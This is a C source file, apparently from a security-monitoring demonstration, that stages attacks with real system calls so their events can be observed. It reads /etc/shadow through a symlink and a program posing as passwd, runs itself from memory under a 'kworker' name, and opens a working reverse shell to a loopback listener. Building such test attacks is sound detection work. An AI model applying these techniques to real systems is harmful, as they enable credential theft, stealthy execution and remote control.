/* SPDX-License-Identifier: Apache-2.0 */
/*
 * The attacks of the demonstration, made with real system calls. Each waits for its children, so
 * that their events do not mix with those of the next attack.
 */
#define _GNU_SOURCE
#include "demo.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

extern char **environ;

static int child_wait(pid_t pid)
{
	int status;

	if (pid < 0)
		return -errno;
	while (waitpid(pid, &status, 0) < 0)
		if (errno != EINTR)
			return -errno;
	return WIFEXITED(status) && WEXITSTATUS(status) == 0 ? 0 : -ECHILD;
}

static int program_run(const char *path, char *const argv[])
{
	pid_t pid = fork();

	if (pid == 0) {
		int null = open("/dev/null", O_RDWR);

		dup2(null, 1);
		execv(path, argv);
		_exit(127);
	}
	return child_wait(pid);
}

int attack_read_through_symlink(void)
{
	char *argv[] = { "cat", "/tmp/notes.txt", NULL };

	unlink("/tmp/notes.txt");
	if (symlink("/etc/shadow", "/tmp/notes.txt") < 0)
		return -errno;
	return program_run("/bin/cat", argv);
}

/* A copy of this program at the path and name of a program that may read the file. */
int attack_read_by_allowed_program(void)
{
	char *argv[] = { "passwd", "--read", "/etc/shadow", NULL };

	return program_run("/usr/bin/passwd", argv);
}

int attack_run_from_memory(void)
{
	char *argv[] = { "kworker/0:1", "--nothing", NULL };
	int self = open("/proc/self/exe", O_RDONLY | O_CLOEXEC);
	int fd = memfd_create("update", MFD_CLOEXEC);
	struct stat st;
	pid_t pid;

	if (self < 0 || fd < 0 || fstat(self, &st) < 0)
		return -errno;
	while (st.st_size > 0) {
		ssize_t n = sendfile(fd, self, NULL, (size_t)st.st_size);

		if (n <= 0)
			return -EIO;
		st.st_size -= n;
	}
	pid = fork();
	if (pid == 0) {
		fexecve(fd, argv, environ);
		_exit(127);
	}
	close(self);
	close(fd);
	return child_wait(pid);
}

/* The attacker's side: accepts one connection, sends one command, reads until the shell ends. */
static int listener_serve(int listener)
{
	static const char command[] = "id; exit\n";
	char buf[256];
	int fd = accept4(listener, NULL, NULL, SOCK_CLOEXEC);

	if (fd < 0)
		return -errno;
	if (write(fd, command, sizeof(command) - 1) < 0)
		return -errno;
	while (read(fd, buf, sizeof(buf)) > 0)
		;
	close(fd);
	return 0;
}

int attack_reverse_shell(void)
{
	struct sockaddr_in addr = {
		.sin_family = AF_INET,
		.sin_port = htons(4444),
		.sin_addr.s_addr = htonl(INADDR_LOOPBACK),
	};
	int listener = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
	int one = 1, r;
	pid_t pid;

	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof(one));
	if (bind(listener, (struct sockaddr *)&addr, sizeof(addr)) < 0 || listen(listener, 1) < 0)
		return -errno;
	pid = fork();
	if (pid == 0) {
		int fd = socket(AF_INET, SOCK_STREAM, 0);

		if (connect(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0)
			_exit(1);
		dup2(fd, 0);
		dup2(fd, 1);
		dup2(fd, 2);
		execl("/bin/sh", "sh", NULL);
		_exit(127);
	}
	r = listener_serve(listener);
	close(listener);
	return r < 0 ? r : child_wait(pid);
}
